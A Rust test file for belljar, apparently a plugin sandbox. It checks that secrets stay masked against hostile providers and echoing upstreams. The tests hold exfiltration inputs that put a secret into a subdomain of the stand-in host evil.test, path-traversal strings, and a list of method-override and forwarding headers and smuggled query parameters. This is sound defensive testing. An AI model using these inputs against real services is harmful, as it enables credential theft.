//! Hostile rows about secrets: belljar's environment, its paths, the values of settings, its keys, and the secrets that
//! it adds to requests. The upstreams are real servers on loopback.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::sync::Arc;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use belljar_upstream::{Upstream, answer, echo};

use crate::expect::{matching, text};
use crate::http_grants::{answer_text, fetch, grant};
use crate::row::{Row, RunMode, Stops, hostile_guest};
use crate::tools::{deadline, line, path, read_text, run, shown, within};

/// The value of a setting. Only the provider of its mount may see it.
const VALUE: &str = "sec-05-value-1b7e";

pub(crate) fn rows() -> Vec<Row> {
    vec![
        hostile_guest("SEC-01", "a provider reads its environment, its arguments, its directory and standard input")
            .read("env", plain("[]"))
            .read("args", plain("[]"))
            .read("cwd", plain("/"))
            .read("stdin", plain("0 bytes"))
            .stopped(Stops::Structure("belljar passes no part of its own environment to a provider")),
        two_hosts(),
        own_header(),
        printed(),
        secrets_in_own_texts(),
        echoed_names(),
        partial(),
        overridden(),
        hostile_guest("SEC-04", "a provider panics and traps, so that the error shows details of the host")
            .shell("export RUST_BACKTRACE=full WASMTIME_BACKTRACE_DETAILS=1")
            .act(|context| {
                let root = context.site().path("").display().to_string();
                for reference in ["panic/x", "trap", "recurse/0", "exit/3"] {
                    let said = shown(&context.read(reference));
                    for detail in [root.trim_end_matches('/'), ".rs:", "wasm-function", "0x", "registry/src"] {
                        assert!(!said.contains(detail), "{reference} shows {detail:?}: {said}");
                    }
                }
                "no host path and no stack frame in the error".to_owned()
            })
            .stopped(Stops::Structure("an error names only the kind of the trap")),
        hostile_guest(
            "SEC-05",
            "the value of a setting leaks into the output, the log, the record, or the process title",
        )
        .config(&format!("env = {{ TOKEN = \"{VALUE}\" }}"))
        .run_mode(RunMode::Unstarted)
        .act(|context| {
            for verb in [&["check"][..], &["check", "--json"], &["list"], &["list", "--json"], &["--help"]] {
                let (_, said) = run(context, verb);
                assert!(!said.contains(VALUE), "{verb:?} shows the value");
                assert!(
                    !verb.contains(&"check") || said.contains("TOKEN"),
                    "{verb:?} does not name the setting: {said}"
                );
            }
            let line = line(context, "");
            let uri = context.uri("env");
            assert!(read_text(&line, &uri).contains(VALUE), "the provider of the mount does not get the value");
            let process = format!("/proc/{}", line.process.id());
            let title = fs::read(format!("{process}/cmdline")).expect("read the command line");
            assert!(!String::from_utf8_lossy(&title).contains(VALUE));
            assert!(!line.process.stderr().contains(VALUE), "the value is in the log");
            let records = context.site().audit_text_with("\"reference\":\"env\"");
            assert!(!records.contains(VALUE), "the value is in the records");
            "the name is shown, the value never".to_owned()
        })
        .stopped(Stops::Structure("belljar writes only the names of settings")),
        hostile_guest("SEC-06", "another user of the machine reads belljar's keys and compiled code")
            .act(|context| {
                // All processes of this suite use these directories for compiled code and keys.
                let environment = context.site().environment();
                let mut seen = 0;
                for name in ["XDG_CACHE_HOME", "XDG_STATE_HOME"] {
                    let variable =
                        environment.iter().rev().find(|(key, _)| key == name).expect("the suite sets this variable");
                    let directory = std::path::Path::new(&variable.1).join("belljar");
                    for path in fs::read_dir(&directory)
                        .expect("read a directory of the suite")
                        .flatten()
                        .map(|entry| entry.path())
                        .chain([directory])
                    {
                        let mode = fs::metadata(&path).map_or(0, |meta| meta.permissions().mode());
                        assert_eq!(mode & 0o077, 0, "{}", path.display());
                        seen += 1;
                    }
                }
                let limits = fs::read_to_string(format!("/proc/{}/limits", context.running.process().id()))
                    .expect("read the limits of the process");
                let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap_or_default();
                assert!(core.split_whitespace().nth(4) == Some("0"), "{core}");
                format!("{seen} files and directories, other users can open none; no core dumps")
            })
            .stopped(Stops::Kernel("belljar creates files with mode 0600, and directories with 0700")),
    ]
}

/// The secret that the host adds to requests in the rows below.
const TOKEN: &str = "sec-tok3n/with+odd=signs";

/// Declares the secret `token`, and sets its variable in belljar's environment.
fn with_token(row: Row) -> Row {
    row.settings("[secrets]\ntoken = { env = \"TOKEN\" }").shell("export TOKEN='sec-tok3n/with+odd=signs'")
}

/// The key of an HTTP grant that adds the secret to each request.
const BEARER: &str = "headers = { authorization = \"Bearer ${secret:token}\" }";

/// A row with two granted upstreams. The host adds the secret to requests to one of them.
fn two_hosts() -> Row {
    let upstreams: [Arc<Upstream>; 2] = std::array::from_fn(|_| Arc::new(Upstream::plain(echo)));
    let [with, without] = upstreams.each_ref().map(|upstream| format!("http://127.0.0.1:{}", upstream.port()));
    let row = hostile_guest("SEC-02", "a provider sends the secret of one upstream to another upstream")
        .config(&format!("http = [{{ origin = \"{with}\", {BEARER} }}, {{ origin = \"{without}\" }}]"));
    with_token(row)
        .act(move |context| {
            for origin in [&with, &without, &with.replace("127.0.0.1", "localhost")] {
                let reply = answer_text(&context.read(&fetch(&format!("GET {origin}/|quiet"))));
                assert!(!reply.contains(TOKEN), "{reply}");
            }
            let [first, second] = upstreams.each_ref().map(|upstream| upstream.requests());
            assert_eq!(
                first.iter().map(|request| request.header("authorization")).collect::<Vec<_>>(),
                [Some(&*format!("Bearer {TOKEN}"))]
            );
            assert_eq!(second.iter().map(|request| request.header("authorization")).collect::<Vec<_>>(), [None]);
            "the first upstream got the secret, the second did not".to_owned()
        })
        .stopped(Stops::Structure("belljar adds the headers of a grant only to requests that this grant allows"))
}

/// An upstream returns the secret in several encodings, in headers and in the body.
fn own_header() -> Row {
    let upstream = Arc::new(Upstream::plain(|request| {
        let token = request.header("authorization").unwrap_or_default().trim_start_matches("Bearer ");
        let encoded = STANDARD.encode(format!("user:{token}"));
        let percent: String = token.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let body = format!("{token} {encoded} {percent} {{\"t\":\"{}\"}}", token.replace('/', "\\/"));
        answer("200 OK", &format!("x-echo: {token}\r\nauthorization: {token}\r\n"), body)
    }));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    let row = hostile_guest(
        "SEC-03",
        "a provider sets the header that carries a secret, or reads the secret from an upstream that echoes the request",
    )
    .config(&grant(&origin, BEARER));
    with_token(row)
        .act(move |context| {
            for header in ["authorization: mine", "Authorization: mine", "cookie: mine"] {
                let reply = answer_text(&context.read(&fetch(&format!("GET {origin}/|header {header}"))));
                assert!(reply.starts_with("refused: header"), "{header}: {reply}");
            }
            let reply = answer_text(&context.read(&fetch(&format!("GET {origin}/|sent"))));
            assert!(reply.starts_with("status 200") && reply.contains("****"), "{reply}");
            let percent: String = TOKEN.bytes().map(|byte| format!("%{byte:02x}")).collect();
            for leaked in [
                TOKEN,
                "sec-tok3n",
                &STANDARD.encode(format!("user:{TOKEN}")),
                &percent,
                "sent authorization",
                "got authorization",
            ] {
                assert!(!reply.contains(leaked), "{leaked}: {reply}");
            }
            assert_eq!(upstream.requests().len(), 1);
            assert_eq!(upstream.requests()[0].header("authorization"), Some(&*format!("Bearer {TOKEN}")));
            "the upstream got the secret, the provider did not".to_owned()
        })
        .stopped_by(&["credential", "redact"])
}

/// A provider has the secret in its environment, and puts it into each kind of output.
fn printed() -> Row {
    let row = hostile_guest("SEC-07", "a provider that holds a secret puts it into answers, errors and its log")
        .config("env = { TOKEN = \"${secret:token}\" }");
    with_token(row)
        .act(|context| {
            for reference in ["env", "errors/failed/env", "errors/denied/env", "print-env"] {
                let said = shown(&context.read(reference));
                assert!(!said.contains("sec-tok3n"), "{reference}: {said}");
            }
            let given = context.read("env");
            assert!(text(&given).is_some_and(|text| text.contains("****")), "{given:?}");
            let process = context.running.process();
            assert!(!process.stderr().contains("sec-tok3n"), "the value is in the log");
            let records = context.records();
            assert!(!records.contains("sec-tok3n"), "the value is in the records");
            for verb in [&["check"][..], &["check", "--json"], &["list"]] {
                let mut command = context.running.command(verb, "");
                command.env("TOKEN", TOKEN);
                let output = belljar_tests::process::run(command, deadline(Duration::from_secs(120)));
                let said = String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned();
                assert!(!said.contains("sec-tok3n"), "{verb:?}: {said}");
                assert!(verb != ["check"] || said.contains("hands the secret \"token\""), "{said}");
            }
            "masked in answers, errors and the log; belljar check warns".to_owned()
        })
        .stopped_by(&["redact"])
}

/// A secret that is a valid part of a host name.
const NAME: &str = "SecRet-Tok3n-Abcdefghij";

/// True if a text contains half of the secret, in upper or lower case.
fn leaks(text: &str) -> bool {
    let (text, secret) = (text.to_lowercase(), NAME.to_lowercase());
    let half = secret.len() / 2;
    (0..=secret.len() - half).any(|at| text.contains(&secret[at..at + half]))
}

/// A provider has the secret in its environment, and puts it into requests, paths and errors that belljar repeats.
fn secrets_in_own_texts() -> Row {
    let upstream = Arc::new(Upstream::plain(|_| answer("200 OK", "", "fine")));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    hostile_guest(
        "SEC-08",
        "a provider puts a secret into belljar's own texts: names, paths, refusals, errors, the log",
    )
    .config(&grant(&origin, "paths = [\"/a\"]"))
    .config("env = { TOKEN = \"${secret:name}\" }\nfs = { \"/d\" = \"granted-sec-08\" }")
    .settings("[secrets]\nname = { env = \"NAME\" }")
    .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
    .prepare(|site| drop(site.write("granted-sec-08/a.txt", "fine")))
    .act(move |context| {
        let _alive = &upstream;
        let deep = "x".repeat(150);
        let reads = [
            fetch("GET http://$TOKEN.evil.test/"),
            fetch(&format!("GET {origin}/$TOKEN")),
            fetch(&format!("GET {origin}/{deep}$TOKEN")),
            fetch(&format!("$TOKEN {origin}/a")),
            fetch(&format!("GET {origin}/a|header $TOKEN: x")),
            format!("reach/{}", path("https://$TOKEN.evil.test/")),
            format!("reach/{}", path("https://evil.test:1/%53$TOKEN")),
            format!("need/{}", path("/d/../$TOKEN")),
            format!("need/{}", path(format!("/d/../{deep}{deep}$TOKEN"))),
            format!("raw/{}", path("../$TOKEN")),
            format!("open/{}", path(format!("/d/../{deep}$TOKEN"))),
            "errors/failed/cut".to_owned(),
            "errors/denied/cut".to_owned(),
            "errors/unavailable/cut".to_owned(),
            "errors/invalid/cut".to_owned(),
            "errors/failed/hidden".to_owned(),
            "print-cut".to_owned(),
            "env".to_owned(),
        ];
        for reference in &reads {
            let answer = context.read(reference);
            let said = answer.as_ref().map_or_else(ToString::to_string, ToString::to_string);
            assert!(!leaks(&said), "{reference}: {said}");
        }
        let reply = context.read("errors/failed/quotes").expect_err("an error").message;
        assert!(
            reply.contains("; run:") && !reply.contains("no\"; run:"),
            "the provider's text ends its quotation marks early: {reply}"
        );
        // Another thread writes the log, so wait until the line is there.
        let log = || context.running.process().stderr();
        assert!(within(Duration::from_secs(20), || log().contains("****")), "the log: {}", log());
        assert!(!leaks(&log()), "the log: {}", log());
        let records = context.records();
        assert!(records.contains(".evil.test") && !leaks(&records), "the records: {records}");
        format!("masked in {} answers, errors, hints, the log and the records", reads.len())
    })
    .stopped_by(&["redact"])
}

/// An upstream returns the secret in the names of headers and trailers.
fn echoed_names() -> Row {
    let upstream = Arc::new(Upstream::plain(|request| {
        let token = request.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
        let trailer = format!("x-t-{token}: {token}\r\n");
        let head = format!("HTTP/1.1 200 OK\r\nx-{token}-y: {}\r\nconnection: close\r\n", token.to_uppercase());
        format!("{head}trailer: x-t-{token}\r\ntransfer-encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n{trailer}\r\n")
            .into_bytes()
    }));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    hostile_guest("SEC-08", "an upstream puts the secret of a request into the names of headers and trailers")
        .config(&grant(&origin, "headers = { authorization = \"Bearer ${secret:name}\" }"))
        .settings("[secrets]\nname = { env = \"NAME\" }")
        .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
        .act(move |context| {
            let reply = answer_text(&context.read(&fetch(&format!("GET {origin}/"))));
            assert!(reply.contains("body") && reply.contains("got x-****") && !leaks(&reply), "{reply}");
            assert_eq!(upstream.requests()[0].header("authorization"), Some(&*format!("Bearer {NAME}")));
            "header names are masked".to_owned()
        })
        .stopped_by(&["redact"])
}

/// Masking needs the whole response in plain text. A provider asks for a part, or for another coding.
fn partial() -> Row {
    // This upstream supports ranges, content codings and character sets, and echoes the request.
    let upstream = Arc::new(Upstream::plain(|request| {
        let token = request.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
        let half = token.len() / 2;
        match request.path() {
            "/range" if request.header("range").is_some() => answer("206 Partial Content", "", &token[..half]),
            "/always" => answer("206 Partial Content", "content-range: bytes 0-10/22\r\n", &token[..half]),
            "/delta" => answer("226 IM Used", "im: x\r\n", &token[half..]),
            "/parts" => answer("200 OK", "content-type: multipart/byteranges; boundary=b\r\n", &token[..half]),
            "/coded" => answer("200 OK", "content-encoding: x-rot13\r\n", &token[..half]),
            "/transfer" => format!(
                "HTTP/1.1 200 OK\r\nconnection: close\r\ntransfer-encoding: gzip, chunked\r\n\r\nb\r\n{}\r\n0\r\n\r\n",
                &token[..11]
            )
            .into_bytes(),
            "/charset" => answer("200 OK", "content-type: text/plain; charset=utf-7\r\n", &token[..half]),
            _ => echo(request),
        }
    }));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    hostile_guest("SEC-09", "a provider asks for a part of an echoed request, or for another content coding")
        .config(&grant(&origin, "headers = { authorization = \"Bearer ${secret:name}\" }"))
        .settings("[secrets]\nname = { env = \"NAME\" }")
        .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
        .act(move |context| {
            upstream.forget();
            for place in ["/range", "/always", "/delta", "/parts", "/coded", "/transfer", "/charset"] {
                let order = format!("GET {origin}{place}|header range: bytes=0-10|header if-range: x|header a-im: x");
                let reply = answer_text(&context.read(&fetch(&order)));
                assert!(!leaks(&reply), "{place}: {reply}");
            }
            let requests = upstream.requests();
            for name in ["range", "if-range", "a-im"] {
                assert!(requests.iter().all(|one| one.header(name).is_none()), "{name} is sent");
            }
            "the whole response without a coding, or an error".to_owned()
        })
        .stopped_by(&["whole"])
}

/// Some upstreams let headers and parameters replace the method or the path of a request.
fn overridden() -> Row {
    let upstream = Arc::new(Upstream::plain(echo));
    let origin = format!("http://127.0.0.1:{}", upstream.port());
    hostile_guest(
        "SEC-09",
        "a provider makes an upstream use another method, path or parameter than the one that belljar checked",
    )
    .config(&grant(&origin, "methods = [\"POST\"], query = { api_key = \"${secret:name}\" }"))
    .settings("[secrets]\nname = { env = \"NAME\" }")
    .shell("export NAME='SecRet-Tok3n-Abcdefghij'")
    .act(move |context| {
        upstream.forget();
        let names = [
            "x-http-method-override",
            "X-HTTP-Method",
            "x-method-override",
            "x_http_method_override",
            "x-original-url",
            "x-rewrite-url",
            "x-forwarded-host",
            "x-forwarded-for",
            "forwarded",
            "x-real-ip",
            "te",
            "expect",
            "trailer",
            "upgrade",
            "connection",
            "via",
        ];
        for name in names {
            let reply = answer_text(&context.read(&fetch(&format!("POST {origin}/|header {name}: x"))));
            assert!(reply.starts_with("refused: header"), "{name}: {reply}");
        }
        for query in [
            "_method=DELETE",
            "%5Fmethod=DELETE",
            "x-http-method-override=PUT",
            "API_KEY=1",
            "api.key=1",
            "api_key%5B%5D=1",
            "api%255Fkey=1",
        ] {
            let reply = answer_text(&context.read(&fetch(&format!("POST {origin}/?{query}"))));
            assert!(reply.starts_with("refused: "), "{query}: {reply}");
        }
        assert_eq!(upstream.connections(), 0);
        let reply = answer_text(&context.read(&fetch(&format!("POST {origin}/?q=1|header x-fine: y"))));
        assert!(reply.starts_with("status 200") && !leaks(&reply), "{reply}");
        format!("{} headers and 7 queries refused", names.len())
    })
    .stopped_by(&["override"])
}

/// An answer with exactly this text.
fn plain(wanted: &'static str) -> crate::expect::Expect {
    matching(move |answer| match crate::expect::text(answer) {
        Some(text) if text == wanted => Ok(format!("\"{wanted}\"")),
        _ => Err(shown(answer)),
    })
}
